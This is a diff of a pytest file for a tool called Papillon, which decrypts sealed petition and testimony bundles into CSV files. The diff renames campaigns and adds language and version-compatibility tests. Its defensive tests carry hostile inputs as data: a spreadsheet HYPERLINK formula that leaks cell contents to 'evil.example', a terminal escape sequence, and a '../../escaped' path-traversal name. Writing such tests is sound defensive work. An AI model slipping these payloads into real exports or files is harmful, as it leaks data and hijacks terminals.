@@ -14,13 +14,13 @@ from pathlib import Path
 
 import pytest
 from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey
-from pages import ROOT, decrypt_args
+from pages import CAMPAIGNS, ROOT, decrypt_args
 
 from papillon import bundle, campaigns, envelope, keys
 from papillon.keys import PublicKey, raw_public_bytes
 
-SHIPPED = {slug: c.source for slug, c in campaigns.load_dir(ROOT / "app" / "campaigns").items()}
-DECLARATION_LABELS = [f.label for f in campaigns.from_dict(SHIPPED["declaration"], "d").forms["sign"].fields]
+DEFINITIONS = {slug: c.source for slug, c in campaigns.load_dir(CAMPAIGNS).items()}
+PETITION_LABELS = [f.label for f in campaigns.from_dict(DEFINITIONS["petition"], "d").forms["sign"].fields]
 CHINESE, THAI, KOREAN = (
     "\u738b\u5c0f\u660e",
     "\u0e2a\u0e21\u0e0a\u0e32\u0e22 \u0e43\u0e08\u0e14\u0e35",
@@ -39,14 +39,14 @@ def public(private: X25519PrivateKey) -> PublicKey:
 
 def record(n: int, private: X25519PrivateKey, campaign: str, form: str, answers: dict, **kw) -> bundle.Record:
     place = kw.get("sealed_place", (campaign, form))
-    data = envelope.plaintext(answers, kw.get("version", 1), "en")
+    data = envelope.plaintext(answers, kw.get("version", 1), kw.get("locale", "en"))
     return bundle.Record(
         id=f"{n:032x}",
         campaign=campaign,
         form=form,
         received_on=kw.get("received_on", "2026-03-04"),
         sealed_by=kw.get("sealed_by", "server"),
-        envelope=envelope.seal(data, [public(private)], envelope.info(*place)).to_json(),
+        envelope=envelope.seal(data, [public(private)], *place).to_json(),
     )
 
 
@@ -57,13 +57,13 @@ def write_bundle(path: Path, records: list[bundle.Record], private: X25519Privat
         records,
         created_on="2026-03-05",
         key_ids=[public(private).key_id],
-        campaigns={k: v for k, v in SHIPPED.items() if k in used},
+        campaigns={k: v for k, v in DEFINITIONS.items() if k in used},
     )
     return path
 
 
 def signer(name: str, **more) -> dict:
-    return {"signing_as": "An individual", "name": name, **more}
+    return {"signing_as": "individual", "name": name, **more}
 
 
 def run(decrypt, bundles, key: Path, out: Path, passphrase_file: Path | None = None) -> int:
@@ -80,9 +80,9 @@ def read_csv(path: Path) -> list[list[str]]:
 @pytest.fixture
 def sample_bundle(tmp_path, organizer_key) -> Path:
     records = [
-        record(1, organizer_key, "declaration", "sign", signer(CHINESE, areas_of_focus=["Labour rights", "Other"])),
-        record(2, organizer_key, "declaration", "sign", signer(THAI), sealed_by="browser"),
-        record(3, organizer_key, "open-letter", "testimony", {"what_happened": KOREAN, "may_share": True}),
+        record(1, organizer_key, "petition", "sign", signer(CHINESE, areas_of_focus=["rights", "other"])),
+        record(2, organizer_key, "petition", "sign", signer(THAI), sealed_by="browser"),
+        record(3, organizer_key, "petition", "testimony", {"what_happened": KOREAN, "may_share": True}),
     ]
     return write_bundle(tmp_path / "export.papillon", records, organizer_key)
 
@@ -91,8 +91,8 @@ def test_decrypt_writes_one_csv_per_campaign_and_form(decrypt, sample_bundle, or
     out = tmp_path / "out"
     assert run(decrypt, [sample_bundle], organizer_key_file, out) == 0
     assert sorted(p.name for p in out.iterdir()) == [
-        "declaration-sign.csv",
-        "open-letter-testimony.csv",
+        "petition-sign.csv",
+        "petition-testimony.csv",
         "summary.txt",
     ]
     assert "Opened 3 record(s); 0 could not be opened." in capsys.readouterr().out
@@ -101,7 +101,7 @@ def test_decrypt_writes_one_csv_per_campaign_and_form(decrypt, sample_bundle, or
 def test_decrypt_csv_starts_with_a_utf8_bom(decrypt, sample_bundle, organizer_key_file, tmp_path):
     out = tmp_path / "out"
     run(decrypt, [sample_bundle], organizer_key_file, out)
-    assert (out / "declaration-sign.csv").read_bytes().startswith(b"\xef\xbb\xbf")
+    assert (out / "petition-sign.csv").read_bytes().startswith(b"\xef\xbb\xbf")
 
 
 def test_decrypt_csv_has_a_column_per_field_in_form_order_then_date_and_sealing(
@@ -109,37 +109,112 @@ def test_decrypt_csv_has_a_column_per_field_in_form_order_then_date_and_sealing(
 ):
     out = tmp_path / "out"
     run(decrypt, [sample_bundle], organizer_key_file, out)
-    header = read_csv(out / "declaration-sign.csv")[0]
-    n = len(DECLARATION_LABELS)
-    assert header[:n] == DECLARATION_LABELS
-    assert header[n:] == ["Date received", "Sealed by", "Record id", "Check"]
+    header = read_csv(out / "petition-sign.csv")[0]
+    n = len(PETITION_LABELS)
+    assert header[:n] == PETITION_LABELS
+    assert header[n:] == ["Language", "Date received", "Sealed by", "Record id", "Check"]
 
 
 def test_decrypt_keeps_chinese_thai_and_korean_text(decrypt, sample_bundle, organizer_key_file, tmp_path):
     out = tmp_path / "out"
     run(decrypt, [sample_bundle], organizer_key_file, out)
-    rows = read_csv(out / "declaration-sign.csv")[1:]
-    names = {row[DECLARATION_LABELS.index("Name (First Name and Last Name)")] for row in rows}
+    rows = read_csv(out / "petition-sign.csv")[1:]
+    names = {row[PETITION_LABELS.index("Your name")] for row in rows}
     assert names == {CHINESE, THAI}
-    testimony = read_csv(out / "open-letter-testimony.csv")[1]
+    testimony = read_csv(out / "petition-testimony.csv")[1]
     assert testimony[0] == KOREAN
 
 
 def test_decrypt_rows_carry_date_sealing_path_and_id(decrypt, sample_bundle, organizer_key_file, tmp_path):
     out = tmp_path / "out"
     run(decrypt, [sample_bundle], organizer_key_file, out)
-    rows = read_csv(out / "declaration-sign.csv")[1:]
-    tails = sorted(row[len(DECLARATION_LABELS) :] for row in rows)
-    assert tails == [["2026-03-04", "browser", f"{2:032x}", ""], ["2026-03-04", "server", f"{1:032x}", ""]]
+    rows = read_csv(out / "petition-sign.csv")[1:]
+    tails = sorted(row[len(PETITION_LABELS) :] for row in rows)
+    assert tails == [
+        ["en", "2026-03-04", "browser", f"{2:032x}", ""],
+        ["en", "2026-03-04", "server", f"{1:032x}", ""],
+    ]
+
+
+def test_a_korean_and_an_english_answer_with_the_same_choices_open_to_the_same_cells(
+    decrypt, organizer_key, organizer_key_file, tmp_path
+):
+    """Choices are sealed as ids, so the page's language changes only the Language column."""
+    same = {"signing_as": "organization", "areas_of_focus": ["rights", "legal"], "province": "qc"}
+    path = write_bundle(
+        tmp_path / "b.papillon",
+        [
+            record(1, organizer_key, "petition", "sign", signer("Ada", **same), locale="en"),
+            record(2, organizer_key, "petition", "sign", signer("Ada", **same), locale="ko"),
+        ],
+        organizer_key,
+    )
+    out = tmp_path / "out"
+    assert run(decrypt, [path], organizer_key_file, out) == 0
+    header, *rows = read_csv(out / "petition-sign.csv")
+    by_language = {row[header.index("Language")]: row for row in rows}
+    assert set(by_language) == {"en", "ko"}
+    answers = [row[: len(PETITION_LABELS)] for row in by_language.values()]
+    assert answers[0] == answers[1]
+    assert answers[0][PETITION_LABELS.index("I am signing as")] == "An organization"
+    assert answers[0][PETITION_LABELS.index("Areas of focus")] == "Workers' rights; Legal services"
+    assert answers[0][PETITION_LABELS.index("Province or territory")] == "Quebec"
+    assert all(row[header.index("Check")] == "" for row in rows)
+
+
+def version_1_record(n: int, private: X25519PrivateKey, campaign: str, form: str, answers: dict) -> bundle.Record:
+    """A record as Papillon sealed it before choice ids: each choice as its English label."""
+    data = envelope.plaintext(answers, 1, "en")
+    sealed = envelope.SUITE.encrypt(data, private.public_key(), info=envelope.info(campaign, form, version=1))
+    return bundle.Record(
+        id=f"{n:032x}",
+        campaign=campaign,
+        form=form,
+        received_on="2026-03-04",
+        sealed_by="server",
+        envelope=envelope.Envelope({public(private).key_id: sealed}, version=1).to_json(),
+    )
+
+
+def test_a_version_1_record_with_labels_opens_to_the_same_cells_as_a_new_one(
+    decrypt, organizer_key, organizer_key_file, tmp_path
+):
+    path = write_bundle(
+        tmp_path / "b.papillon",
+        [
+            version_1_record(
+                1,
+                organizer_key,
+                "petition",
+                "sign",
+                signer("Ada", signing_as="An organization", areas_of_focus=["Workers' rights", "Other"]),
+            ),
+            record(
+                2,
+                organizer_key,
+                "petition",
+                "sign",
+                signer("Ada", signing_as="organization", areas_of_focus=["rights", "other"]),
+            ),
+        ],
+        organizer_key,
+    )
+    out = tmp_path / "out"
+    assert run(decrypt, [path], organizer_key_file, out) == 0
+    header, *rows = read_csv(out / "petition-sign.csv")
+    assert len(rows) == 2
+    assert rows[0][: len(PETITION_LABELS)] == rows[1][: len(PETITION_LABELS)]
+    assert rows[0][PETITION_LABELS.index("Areas of focus")] == "Workers' rights; Other"
+    assert all(row[header.index("Check")] == "" for row in rows)
 
 
 def test_decrypt_joins_lists_and_writes_consent_as_yes_or_no(decrypt, sample_bundle, organizer_key_file, tmp_path):
     out = tmp_path / "out"
     run(decrypt, [sample_bundle], organizer_key_file, out)
-    rows = read_csv(out / "declaration-sign.csv")[1:]
-    focus = DECLARATION_LABELS.index("Organization areas of focus")
-    assert sorted(row[focus] for row in rows) == ["", "Labour rights; Other"]
-    testimony_header, testimony = read_csv(out / "open-letter-testimony.csv")
+    rows = read_csv(out / "petition-sign.csv")[1:]
+    focus = PETITION_LABELS.index("Areas of focus")
+    assert sorted(row[focus] for row in rows) == ["", "Workers' rights; Other"]
+    testimony_header, testimony = read_csv(out / "petition-testimony.csv")
     assert (
         testimony[testimony_header.index(next(h for h in testimony_header if h.startswith("You may share")))] == "yes"
     )
@@ -151,13 +226,13 @@ def test_decrypt_defuses_cells_that_a_spreadsheet_would_run(
 ):
     path = write_bundle(
         tmp_path / "b.papillon",
-        [record(1, organizer_key, "declaration", "sign", signer(dangerous))],
+        [record(1, organizer_key, "petition", "sign", signer(dangerous))],
         organizer_key,
     )
     out = tmp_path / "out"
     run(decrypt, [path], organizer_key_file, out)
-    row = read_csv(out / "declaration-sign.csv")[1]
-    assert row[DECLARATION_LABELS.index("Name (First Name and Last Name)")] == "'" + dangerous
+    row = read_csv(out / "petition-sign.csv")[1]
+    assert row[PETITION_LABELS.index("Your name")] == "'" + dangerous
 
 
 def test_decrypt_summary_counts(decrypt, sample_bundle, organizer_key, organizer_key_file, tmp_path):
@@ -169,8 +244,8 @@ def test_decrypt_summary_counts(decrypt, sample_bundle, organizer_key, organizer
     assert "sealed in the browser: 1, sealed on arrival at the server: 2" in summary
     assert "Records that could not be opened: 0" in summary
     assert "(see the Check column): 0" in summary
-    assert "declaration-sign.csv: 2 row(s)" in summary
-    assert "open-letter-testimony.csv: 1 row(s)" in summary
+    assert "petition-sign.csv: 2 row(s)" in summary
+    assert "petition-testimony.csv: 1 row(s)" in summary
     for text in (CHINESE, THAI, KOREAN):
         assert text not in summary
 
@@ -189,14 +264,14 @@ def test_decrypt_flags_a_record_that_does_not_fit_its_form_instead_of_dropping_i
     path = write_bundle(
         tmp_path / "b.papillon",
         [
-            record(1, organizer_key, "declaration", "sign", signer("Ada")),
-            record(2, organizer_key, "declaration", "sign", misfit, version=7),
+            record(1, organizer_key, "petition", "sign", signer("Ada")),
+            record(2, organizer_key, "petition", "sign", misfit, version=7),
         ],
         organizer_key,
     )
     out = tmp_path / "out"
     assert run(decrypt, [path], organizer_key_file, out) == 0
-    header, *rows = read_csv(out / "declaration-sign.csv")
+    header, *rows = read_csv(out / "petition-sign.csv")
     assert len(rows) == 2
     by_id = {row[header.index("Record id")]: row for row in rows}
     check = by_id[f"{2:032x}"][header.index("Check")]
@@ -204,7 +279,7 @@ def test_decrypt_flags_a_record_that_does_not_fit_its_form_instead_of_dropping_i
     assert "signing_as: Please choose from the list." in check
     assert "_form: Unknown fields: shoe_size" in check
     assert "made under form version 7" in check
-    assert by_id[f"{2:032x}"][header.index("Name (First Name and Last Name)")] == "x" * 200
+    assert by_id[f"{2:032x}"][header.index("Your name")] == "x" * 200
     assert by_id[f"{1:032x}"][header.index("Check")] == ""
     assert "(see the Check column): 1" in (out / "summary.txt").read_text()
 
@@ -214,12 +289,12 @@ def test_decrypt_keeps_the_value_of_an_answer_the_form_does_not_know(
 ):
     path = write_bundle(
         tmp_path / "b.papillon",
-        [record(1, organizer_key, "declaration", "sign", signer("Ada", renamed_field="Zqv kept value"))],
+        [record(1, organizer_key, "petition", "sign", signer("Ada", renamed_field="Zqv kept value"))],
         organizer_key,
     )
     out = tmp_path / "out"
     assert run(decrypt, [path], organizer_key_file, out) == 0
-    header, row = read_csv(out / "declaration-sign.csv")
+    header, row = read_csv(out / "petition-sign.csv")
     assert "Zqv kept value" in row[header.index("Check")]
     assert "renamed_field" in row[header.index("Check")]
 
@@ -246,37 +321,37 @@ def test_decrypt_counts_records_it_cannot_open_and_exits_non_zero(
     path = write_bundle(
         tmp_path / "b.papillon",
         [
-            record(1, organizer_key, "declaration", "sign", signer("Ada")),
-            record(2, stranger, "declaration", "sign", signer("Bea")),
-            record(3, organizer_key, "declaration", "sign", signer("Cy"), sealed_place=("open-letter", "sign")),
+            record(1, organizer_key, "petition", "sign", signer("Ada")),
+            record(2, stranger, "petition", "sign", signer("Bea")),
+            record(3, organizer_key, "petition", "sign", signer("Cy"), sealed_place=("letter", "sign")),
         ],
         organizer_key,
     )
     out = tmp_path / "out"
     assert run(decrypt, [path], organizer_key_file, out) == 1
-    assert len(read_csv(out / "declaration-sign.csv")) == 2
+    assert len(read_csv(out / "petition-sign.csv")) == 2
     summary = (out / "summary.txt").read_text()
     assert "Records that could not be opened: 2" in summary
-    assert f"{2:032x} (declaration/sign): the record is not sealed to key" in summary
-    assert f"{3:032x} (declaration/sign): the record does not open" in summary
+    assert f"{2:032x} (petition/sign): the record is not sealed to key" in summary
+    assert f"{3:032x} (petition/sign): the record does not open" in summary
     assert "2 could not be opened" in capsys.readouterr().out
 
 
 def test_decrypt_reads_several_bundles_and_keeps_each_record_once(decrypt, organizer_key, organizer_key_file, tmp_path):
     first = write_bundle(
-        tmp_path / "1.papillon", [record(1, organizer_key, "declaration", "sign", signer("Ada"))], organizer_key
+        tmp_path / "1.papillon", [record(1, organizer_key, "petition", "sign", signer("Ada"))], organizer_key
     )
     second = write_bundle(
         tmp_path / "2.papillon",
         [
-            record(1, organizer_key, "declaration", "sign", signer("Ada")),
-            record(2, organizer_key, "declaration", "sign", signer("Bea")),
+            record(1, organizer_key, "petition", "sign", signer("Ada")),
+            record(2, organizer_key, "petition", "sign", signer("Bea")),
         ],
         organizer_key,
     )
     out = tmp_path / "out"
     assert run(decrypt, [first, second], organizer_key_file, out) == 0
-    assert len(read_csv(out / "declaration-sign.csv")) == 3
+    assert len(read_csv(out / "petition-sign.csv")) == 3
 
 
 # --- refusals: one clear line, non-zero exit, nothing written -------------------------------
@@ -422,8 +497,8 @@ def test_decrypt_runs_without_flask_or_sqlalchemy(sample_bundle, organizer_key_f
         check=False,
     )
     assert result.returncode == 0, result.stderr
-    assert (out / "declaration-sign.csv").exists()
-    rows = read_csv(out / "open-letter-testimony.csv")
+    assert (out / "petition-sign.csv").exists()
+    rows = read_csv(out / "petition-testimony.csv")
     assert rows[1][0] == KOREAN
 
 
@@ -432,11 +507,11 @@ def test_decrypt_runs_without_flask_or_sqlalchemy(sample_bundle, organizer_key_f
 
 def hostile_definitions() -> dict:
     """The declaration's definition with formulas and a terminal escape sequence in its labels."""
-    definition = json.loads(json.dumps(SHIPPED["declaration"]))
+    definition = json.loads(json.dumps(DEFINITIONS["petition"]))
     fields = definition["forms"][0]["fields"]
     fields[0]["label"] = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
     fields[1]["label"] = "\x1b]0;owned\x07Name \uff1dcmd"
-    return {"declaration": definition}
+    return {"petition": definition}
 
 
 def all_cells(path: Path) -> list[str]:
@@ -446,12 +521,12 @@ def all_cells(path: Path) -> list[str]:
 def test_every_cell_that_could_run_as_a_formula_is_defused_header_included(
     decrypt, organizer_key, organizer_key_file, tmp_path
 ):
-    rec = record(1, organizer_key, "declaration", "sign", signer(" =1+1", organization="\t@SUM(A1)"))
+    rec = record(1, organizer_key, "petition", "sign", signer(" =1+1", organization="\t@SUM(A1)"))
     path = tmp_path / "hostile.bundle"
     bundle.write(path, [rec], created_on="2026-03-05", key_ids=[], campaigns=hostile_definitions())
     out = tmp_path / "out"
     run(decrypt, [path], organizer_key_file, out)
-    cells = all_cells(out / "declaration-sign.csv")
+    cells = all_cells(out / "petition-sign.csv")
     starts = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
     assert [c for c in cells if c.lstrip(" \n").startswith(starts)] == []
     assert '\'=HYPERLINK("http://evil.example/?"&A2,"Click")' in cells
@@ -462,7 +537,7 @@ def test_every_cell_that_could_run_as_a_formula_is_defused_header_included(
 def test_a_bundle_that_names_a_place_outside_the_output_folder_is_refused(
     decrypt, organizer_key, organizer_key_file, tmp_path, capsys
 ):
-    rec = record(1, organizer_key, "declaration", "sign", signer("Ada"))
+    rec = record(1, organizer_key, "petition", "sign", signer("Ada"))
     path = tmp_path / "b.bundle"
     write_bundle(path, [dataclasses.replace(rec, campaign="../../escaped")], organizer_key)
     out = tmp_path / "deep" / "out"
@@ -497,7 +572,7 @@ def test_a_key_that_opens_none_of_the_records_is_refused_and_nothing_written(
     decrypt, organizer_key_file, tmp_path, capsys
 ):
     stranger = X25519PrivateKey.generate()
-    path = write_bundle(tmp_path / "b.bundle", [record(1, stranger, "declaration", "sign", signer("Ada"))], stranger)
+    path = write_bundle(tmp_path / "b.bundle", [record(1, stranger, "petition", "sign", signer("Ada"))], stranger)
     out = tmp_path / "out"
     code = run(decrypt, [path], organizer_key_file, out)
     assert_refused(code, capsys, out, "opens none of the 1 record(s)")
@@ -506,7 +581,7 @@ def test_a_key_that_opens_none_of_the_records_is_refused_and_nothing_written(
 
 def test_the_refusal_names_the_keys_the_records_were_sealed_to(decrypt, organizer_key_file, tmp_path, capsys):
     stranger = X25519PrivateKey.generate()
-    path = write_bundle(tmp_path / "b.bundle", [record(1, stranger, "declaration", "sign", signer("Ada"))], stranger)
+    path = write_bundle(tmp_path / "b.bundle", [record(1, stranger, "petition", "sign", signer("Ada"))], stranger)
     run(decrypt, [path], organizer_key_file, tmp_path / "out")
     assert public(stranger).key_id in capsys.readouterr().err
 
